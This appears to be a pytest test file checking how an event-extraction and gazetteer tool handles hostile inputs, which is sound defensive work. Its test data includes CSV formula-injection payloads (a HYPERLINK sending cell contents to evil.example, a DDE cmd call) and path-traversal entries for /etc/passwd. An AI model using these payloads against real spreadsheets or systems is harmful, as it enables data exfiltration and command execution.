"""Hostile and careless inputs and outputs (issue 9): every one is an error line, a warning or a
refusal with exit 2, never a traceback, a silent loss or a file run by a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pandas as pd
import pytest
from ingest_support import ROOT, SEEDS, cli, count, summary
from test_reader import cp1258_bytes

from events.output import csv_cell
from events.reader import article_from_bytes, article_from_text, decode
from gazetteer import Gazetteer, InvalidPlace
from store.db import EventStore
from store.export import as_text
from store.ingest import Ingest

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
SEED = SEEDS[0].read_text(encoding="utf-8")  # an article with events


def gaz_cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "gazetteer", *args],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, **(env or {})},
    )


def jsonl(path: Path, rows: list[dict | str]) -> Path:
    """One line per row: a dict as JSON, a str as it is (to write escapes JSON allows)."""
    lines = [row if isinstance(row, str) else json.dumps(row, ensure_ascii=False) for row in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


# ------------------------------------------------------------------ 2. CSV injection


def test_csv_cell_follows_owasp_and_leaves_numbers_alone() -> None:
    for start in FORMULAS:
        assert csv_cell(f"{start}1+2") == f"'{start}1+2"
    assert csv_cell("Terter") == "Terter"
    assert csv_cell(-98.6) == -98.6
    assert csv_cell(None) is None


def test_export_csv_neutralises_formulas_from_titles_sources_and_urls(built_db: Path, tmp_path: Path) -> None:
    corpus = jsonl(tmp_path / "c.jsonl", [{
        "id": "x", "text": SEED, "published": "2020-09-28",
        "title": '=HYPERLINK("http://evil.example/?"&A1,"bấm")', "source": "+cmd|' /C calc'!A0",
        "url": "@SUM(1+1)",
    }])  # fmt: skip
    db = tmp_path / "events.sqlite"
    assert cli("ingest", str(corpus), "--db", str(db)).returncode == 0
    out = tmp_path / "out.csv"
    result = cli("export", "--db", str(db), "-o", str(out))
    assert result.returncode == 0, result.stderr
    text = out.read_text(encoding="utf-8")  # opened as text, as a spreadsheet reads it
    found = cells(text)
    assert found and not [c for c in found if c.startswith(FORMULAS)]
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows and {r["article_title"] for r in rows} == {'\'=HYPERLINK("http://evil.example/?"&A1,"bấm")'}
    assert {r["source"] for r in rows} == {"'+cmd|' /C calc'!A0"}
    assert {r["article_url"] for r in rows} == {"'@SUM(1+1)"}


def test_negative_numbers_stay_numbers_and_only_text_cells_change() -> None:
    frame = pd.DataFrame({
        "event_date": pd.to_datetime(["2020-09-28"]), "latitude": [31.9], "longitude": [-98.6],
        "fatalities": [-1], "notes": ["-5 độ C, quân đội rút lui"], "location": ["@Terter"],
    })  # fmt: skip
    row = next(csv.DictReader(io.StringIO(as_text(frame, "csv"))))
    assert (row["longitude"], row["fatalities"]) == ("-98.6", "-1")
    assert (row["notes"], row["location"]) == ("'-5 độ C, quân đội rút lui", "'@Terter")


def test_extract_format_csv_neutralises_file_names(built_db: Path, tmp_path: Path) -> None:
    (tmp_path / "=1+2.txt").write_text(SEED, encoding="utf-8")
    (tmp_path / "manifest.csv").write_text("file,published\n=1+2.txt,2020-09-28\n", encoding="utf-8")
    command = ["extract", "=1+2.txt", "--manifest", "manifest.csv", "--format", "csv"]
    result = subprocess.run(
        [sys.executable, "-m", "events", *command],
        cwd=tmp_path, capture_output=True, text=True, timeout=120,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows and {r["article_path"] for r in rows} == {"'=1+2.txt"}
    assert not [c for c in cells(result.stdout) if c.startswith(FORMULAS)]


def test_the_dashboard_download_is_neutralised_too() -> None:
    """The dashboard's CSV download is ``store.export.as_text`` (dashboard/app.py)."""
    source = (ROOT / "dashboard" / "app.py").read_text(encoding="utf-8")
    assert 'export.as_text(rows, "csv")' in source
    frame = pd.DataFrame({"event_date": pd.to_datetime(["2020-09-28"]), "notes": ["=1+1"]})
    assert "'=1+1" in as_text(frame, "csv")


# ------------------------------------------------------------------ 4. duplicate corpus ids


def test_two_rows_with_one_id_and_two_texts_are_not_a_silent_loss(built_db: Path, tmp_path: Path) -> None:
    other = SEEDS[1].read_text(encoding="utf-8")
    corpus = jsonl(tmp_path / "c.jsonl", [{"id": "7", "text": SEED}, {"id": "7", "text": other}])
    db = tmp_path / "events.sqlite"
    result = cli("ingest", str(corpus), "--db", str(db))
    assert result.returncode == 1
    assert summary(result.stderr) | {"events": 0, "unresolved": 0} == {
        "stored": 1, "skipped": 0, "duplicates": 0, "events": 0, "unresolved": 0, "errors": 1,
    }  # fmt: skip
    assert f"error: {corpus}:2: id '7' was given to an earlier row with another text" in result.stderr
    assert count(db) == 1
    again = cli("ingest", str(corpus), "--db", str(db))  # a rerun: the same answer, nothing lost
    assert (summary(again.stderr)["skipped"], summary(again.stderr)["errors"]) == (1, 1)
    assert count(db) == 1


def test_parquet_rows_with_one_id(built_db: Path, tmp_path: Path) -> None:
    corpus = tmp_path / "c.parquet"
    pd.DataFrame({"id": ["a", "a"], "text": [SEED, SEEDS[1].read_text(encoding="utf-8")]}).to_parquet(corpus)
    db = tmp_path / "events.sqlite"
    result = cli("ingest", str(corpus), "--db", str(db))
    counts = summary(result.stderr)
    assert (counts["stored"], counts["errors"]) == (1, 1) and count(db) == 1


def test_parquet_null_ids_are_rows_without_an_id(built_db: Path, tmp_path: Path) -> None:
    corpus = tmp_path / "c.parquet"
    texts = [SEED, SEEDS[1].read_text(encoding="utf-8"), "Quân đội pháo kích thị trấn Terter hôm 27/9."]
    import pyarrow as pa
    import pyarrow.parquet as pq

    ids = pa.array([1.0, float("nan"), float("nan")])  # NaN values, not nulls (as pandas would write)
    pq.write_table(pa.table({"id": ids, "text": texts}), corpus)
    db = tmp_path / "events.sqlite"
    result = cli("ingest", str(corpus), "--db", str(db))
    assert (summary(result.stderr)["stored"], count(db)) == (3, 3), result.stderr


# ------------------------------------------------------------------ 5. a bad row never stops a batch


@pytest.mark.parametrize("field", ["text", "title"])
def test_an_escaped_surrogate_is_one_error_line_and_the_batch_goes_on(
    built_db: Path, tmp_path: Path, field: str
) -> None:
    bad = {"id": "b", "text": "Quân đội pháo kích thị trấn Terter.", "title": "Tin"}
    line = json.dumps({**bad, field: "@@"}).replace("@@", "x \\ud800 y")  # the escape as JSON allows it
    other = SEEDS[1].read_text(encoding="utf-8")
    corpus = jsonl(tmp_path / "c.jsonl", [{"id": "a", "text": SEED}, line, {"id": "c", "text": other}])
    db = tmp_path / "events.sqlite"
    result = cli("ingest", str(corpus), "--db", str(db))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert f"error: {corpus}:2: '{field}' is not valid Unicode (an unpaired surrogate U+D800" in result.stderr
    assert (summary(result.stderr)["stored"], summary(result.stderr)["errors"]) == (2, 1)
    again = cli("ingest", str(corpus), "--db", str(db))
    assert (summary(again.stderr)["skipped"], summary(again.stderr)["errors"]) == (2, 1)


# ------------------------------------------------------------------ 6. export -o


def test_export_into_a_symlink_writes_its_target_and_keeps_the_link(built_db: Path, tmp_path: Path) -> None:
    db = stored_seed(tmp_path)
    target = tmp_path / "real.csv"
    target.write_text("old\n")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    assert cli("export", "--db", str(db), "-o", str(link)).returncode == 0
    assert link.is_symlink() and target.read_text().startswith("event_id_cnty,")
    assert sorted(p.name for p in tmp_path.iterdir() if "part" in p.name) == []


def test_export_into_a_named_pipe_writes_into_it(built_db: Path, tmp_path: Path) -> None:
    db = stored_seed(tmp_path)
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []
    # a daemon: when the pipe is replaced (the old bug) its reader waits forever, and is left behind
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()), daemon=True)
    reader.start()
    result = cli("export", "--db", str(db), "-o", str(fifo), "--format", "csv")
    reader.join(30)
    assert result.returncode == 0, result.stderr
    assert stat.S_ISFIFO(fifo.lstat().st_mode)  # still a pipe, not a regular file
    assert got and got[0].startswith(b"event_id_cnty,")


def device_full(folder: Path) -> Path:
    """A node of the /dev/full device of our own (never the system's: the old code replaced it)."""
    node = folder / "full"
    try:
        os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 7))
    except (PermissionError, AttributeError):
        pytest.skip("creating a device node needs root (CAP_MKNOD)")
    return node


def test_export_into_a_device_is_never_replaced(built_db: Path, tmp_path: Path) -> None:
    db = stored_seed(tmp_path)
    full = device_full(tmp_path)
    result = cli("export", "--db", str(db), "-o", str(full))
    assert result.returncode == 1
    assert f"error: cannot write {full}: No space left on device" in result.stderr
    assert stat.S_ISCHR(full.lstat().st_mode)


def test_export_of_a_regular_file_is_still_atomic(built_db: Path, tmp_path: Path) -> None:
    db = stored_seed(tmp_path)
    out = tmp_path / "events.csv"
    out.write_text("old\n")
    out.chmod(0o640)
    before = out.stat().st_ino
    assert cli("export", "--db", str(db), "-o", str(out)).returncode == 0
    assert out.stat().st_ino != before and stat.S_IMODE(out.stat().st_mode) == 0o640  # renamed into place
    assert out.read_text().startswith("event_id_cnty,") and [p.name for p in tmp_path.glob("*part*")] == []
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    assert cli("export", "--db", str(db), "-o", str(folder)).returncode == 1 and folder.is_dir()


_STORES: dict[Path, Path] = {}


def stored_seed(tmp_path: Path) -> Path:
    db = tmp_path / "events.sqlite"
    assert cli("ingest", str(SEEDS[0]), "--db", str(db)).returncode == 0
    return db


# ------------------------------------------------------------------ 7. manifests


def test_manifest_rows_outside_its_folder_are_not_read(built_db: Path, tmp_path: Path) -> None:
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "ok.txt").write_text(SEED, encoding="utf-8")
    (tmp_path / "secret.txt").write_text("Mật khẩu của máy chủ ở Hà Nội.", encoding="utf-8")
    manifest = folder / "manifest.csv"
    manifest.write_text(
        "file,published\n../../../../etc/passwd,2020-09-28\n/etc/hostname,2020-09-28\n"
        "../secret.txt,2020-09-28\nok.txt,2020-09-28\n",
        encoding="utf-8",
    )
    db = tmp_path / "events.sqlite"
    result = cli("ingest", "--manifest", str(manifest), "--db", str(db))
    assert result.returncode == 1
    for name in ("../../../../etc/passwd", "/etc/hostname", "../secret.txt"):
        assert f"error: {name}: outside the manifest's folder" in result.stderr
    assert (summary(result.stderr)["stored"], summary(result.stderr)["errors"]) == (1, 3)
    with EventStore(db) as store:
        assert [p for (p,) in store.con.execute("SELECT path FROM articles")] == [str(folder / "ok.txt")]
    allowed = cli("ingest", "--manifest", str(manifest), "--db", str(db), "--allow-outside")
    assert "error: ../secret.txt" not in allowed.stderr and count(db) >= 2


def test_a_manifest_that_never_ends_is_refused_unread(built_db: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "manifest.csv"
    os.mkfifo(fifo)  # the old code waited here for a writer for ever (and read /dev/zero until out of memory)
    result = cli("ingest", "--manifest", str(fifo), "--db", str(tmp_path / "e.sqlite"), timeout=30)
    assert result.returncode == 1
    assert f"error: cannot read manifest {fifo}: not a regular file" in result.stderr


# ------------------------------------------------------------------ 8. HTML only when declared


def test_text_with_a_few_tags_keeps_its_front_matter_and_everything_after_them() -> None:
    raw = (
        "---\ntitle: Giao tranh\npublished: 2020-09-28\n---\n"
        "Quân đội <b>pháo kích</b> thị trấn <i>Terter</i>.<p>Đoạn hai <br> và <svg> một hình vẽ.\n"
        "Sau đó <script> lệnh cuối cùng, và câu kết thúc."
    )
    article = article_from_text(raw, path="a.txt")
    assert (article.published, article.title) == ("2020-09-28", "Giao tranh")
    assert article.text.endswith("và câu kết thúc.") and "<svg>" in article.text
    assert "HTML converted to text" not in article.warnings
    assert any("does not say so" in w for w in article.warnings)  # told, not silently converted


@pytest.mark.parametrize("tag", ["svg", "script", "style", "iframe"])
def test_an_unclosed_element_in_an_html_page_does_not_swallow_the_rest(tag: str) -> None:
    raw = f"<p>Câu một.</p><{tag}><p>Câu hai ở Terter.</p><p>Câu ba.</p>"
    article = article_from_bytes(raw.encode(), path="page.html")
    assert "Câu hai ở Terter." in article.text and article.text.endswith("Câu ba.")
    assert f"<{tag}> never closed: the text after it was kept" in article.warnings


def test_html_declared_at_the_start_is_still_converted() -> None:
    article = article_from_text(
        "<!DOCTYPE html><html><head><title>T</title></head><body><p>Nội dung.</p></body>"
    )
    assert (article.text, article.title) == ("Nội dung.", "T")


# ------------------------------------------------------------------ 9. smaller items

VI = "Quân đội Azerbaijan pháo kích thị trấn Terter hôm 27/9, ba người thiệt mạng."


@pytest.mark.parametrize("codec", ["utf-32-le", "utf-32-be"])
def test_utf32_without_bom(codec: str) -> None:
    article = article_from_bytes(VI.encode(codec))
    assert (article.error, article.encoding, article.text) == (None, codec, VI)


@pytest.mark.parametrize("codec", ["utf-16-le", "utf-16-be", "utf-16"])
def test_utf16_with_an_odd_trailing_byte(codec: str) -> None:
    article = article_from_bytes(VI.encode(codec) + b"\n")
    assert article.error is None and article.text == VI
    assert any("cut short" in w for w in article.warnings)


@pytest.mark.parametrize(
    ("text", "codec"), [("Войска Азербайджана обстреляли город Тертер", "cp1251"),
                        ("Ο στρατός του Αζερμπαϊτζάν βομβάρδισε την πόλη", "iso8859_7")],
)  # fmt: skip
def test_gibberish_from_a_wrong_encoding_is_a_warning(text: str, codec: str) -> None:
    article = article_from_bytes(text.encode(codec))
    assert article.encoding == "cp1258"
    assert any("gibberish" in w for w in article.warnings)


def test_real_windows_1258_gets_no_gibberish_warning() -> None:
    data = cp1258_bytes("Hà Nội, Đà Nẵng: quân đội pháo kích, ba người thiệt mạng")
    assert decode(data)[1] == "cp1258"
    assert article_from_bytes(data).warnings == []


def test_published_year_1_is_a_usage_error_and_a_warning_in_a_header(built_db: Path, tmp_path: Path) -> None:
    result = cli("extract", str(SEEDS[0]), "--published", "0001-01-01")
    assert result.returncode == 2 and "before 1850" in result.stderr and "Traceback" not in result.stderr
    path = tmp_path / "a.txt"
    path.write_text("date 0001-01-01\n" + SEED, encoding="utf-8")
    result = cli("extract", str(path))
    assert result.returncode == 0 and "before 1850" in result.stderr
    assert json.loads(result.stdout)["events"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["lookup", "Terter", "--near", "1e999,0"], "out of range"),
        (["lookup", "Terter", "--near", "nan,0"], "out of range"),
        (["lookup", "Terter", "--limit", "-1"], "at least 1"),
        (["lookup", "Terter", "--limit", "0"], "at least 1"),
        (["reverse", "40", "46", "--max-km", "nan"], "expected a number"),
        (["add", "X", "--kind", "town", "--lat", "1", "--lon", "1", "--population", "1e23"], "whole number"),
        (
            ["add", "X", "--kind", "town", "--lat", "1", "--lon", "1", "--population", "1" + "0" * 23],
            "whole number",
        ),
        (
            ["add", "X", "--kind", "town", "--lat", "1", "--lon", "1", "--country", "ZZ"],
            "unknown country code",
        ),
        (
            ["add", "X", "--kind", "town", "--lat", "1", "--lon", "1", "--country", "QX"],
            "unknown country code",
        ),
        (["add", "X\x07Y", "--kind", "town", "--lat", "1", "--lon", "1"], "control characters"),
        (["add", "X\u202eY", "--kind", "town", "--lat", "1", "--lon", "1"], "control characters"),
        (["add", "X", "--kind", "town", "--lat", "0", "--lon", "0"], "no coordinates"),
    ],
)
def test_gazetteer_bad_input_exit_2_with_a_clear_message(
    built_db: Path, tmp_path: Path, args: list[str], message: str
) -> None:
    user = tmp_path / "user.sqlite"
    result = gaz_cli("--user-db", str(user), *args)
    assert result.returncode == 2, result.stderr
    assert message in result.stderr and "Traceback" not in result.stderr
    assert not user.exists() or Gazetteer(built_db, user).user_places() == []


def test_a_place_at_0_0_never_outranks_the_real_one_unless_forced(fresh_gaz: Gazetteer) -> None:
    with pytest.raises(InvalidPlace, match="no coordinates"):
        fresh_gaz.add_place("Terter", "city", 0, 0, population=10**9)
    assert fresh_gaz.best("Terter").id == "geonames:584871"
    forced = fresh_gaz.add_place("Null Island", "other", 0, 0, allow_zero=True)
    assert (forced.lat, forced.lon) == (0, 0)
    assert fresh_gaz.add_place("Kosovo X", "town", 42.6, 21.1, country="XK").country == "XK"


def test_replace_over_duplicates_counts_what_the_store_holds(built_db: Path, tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    for name in ("a.txt", "b.txt"):
        (folder / name).write_text(SEED, encoding="utf-8")
    db = tmp_path / "events.sqlite"
    cli("ingest", str(folder), "--db", str(db))
    result = cli("ingest", str(folder), "--db", str(db), "--replace")
    counts = summary(result.stderr)
    assert (counts["stored"], counts["duplicates"], count(db)) == (1, 1, 1)
    assert count(db, "events") == counts["events"]
    with EventStore(db) as store:
        assert store.article_path(store.con.execute("SELECT id FROM articles").fetchone()[0]).endswith(
            "a.txt"
        )


def test_a_slow_run_never_prints_0_inputs_per_second(tmp_path: Path) -> None:
    with EventStore(tmp_path / "events.sqlite") as store:
        run = Ingest(store, 1, progress=False, out=io.StringIO())
        run.started = time.perf_counter() - 200
        run.totals["stored"] = 3
        line = run.summary("db").splitlines()[0]
    assert "0 inputs/s" not in line and "66.7 s/input" in line


def test_a_json_object_as_title_is_a_warning_not_its_python_repr(built_db: Path, tmp_path: Path) -> None:
    corpus = jsonl(tmp_path / "c.jsonl", [{"id": "a", "text": SEED, "title": {"x": 1}, "source": ["s"]}])
    db = tmp_path / "events.sqlite"
    result = cli("ingest", str(corpus), "--db", str(db))
    assert result.returncode == 0
    assert f"warning: {corpus}:1: 'title' is an object, not text: ignored" in result.stderr
    assert "'source' is a list, not text: ignored" in result.stderr
    con = sqlite3.connect(db)
    assert con.execute("SELECT title, source FROM articles").fetchall() == [(None, None)]
    con.close()


def test_an_object_as_id_is_an_error_line(built_db: Path, tmp_path: Path) -> None:
    corpus = jsonl(tmp_path / "c.jsonl", [{"id": {"x": 1}, "text": SEED}])
    result = cli("ingest", str(corpus), "--db", str(tmp_path / "events.sqlite"))
    assert result.returncode == 1 and "'id' is an object, not a string or a number" in result.stderr


def test_gazetteer_paths_with_hash_question_mark_and_percent(built_db: Path, tmp_path: Path) -> None:
    folder = tmp_path / "a#b?c%41d"
    folder.mkdir()
    gazetteer = folder / "g#1?.sqlite"
    gazetteer.symlink_to(built_db)
    user = folder / "u%20#?.sqlite"
    env = {"DIADANH_GAZETTEER": str(gazetteer), "DIADANH_USER_PLACES": str(user)}
    added = gaz_cli("add", "Làng Thử", "--kind", "village", "--lat", "40.1", "--lon", "46.9", env=env)
    assert added.returncode == 0, added.stderr
    found = gaz_cli("lookup", "Làng Thử", "--json", env=env)
    assert found.returncode == 0, found.stderr
    assert json.loads(found.stdout)[0]["id"].startswith("user:")
    assert not (folder / "a").exists() and sorted(p.name for p in folder.iterdir()) == sorted(
        [gazetteer.name, user.name]
    )
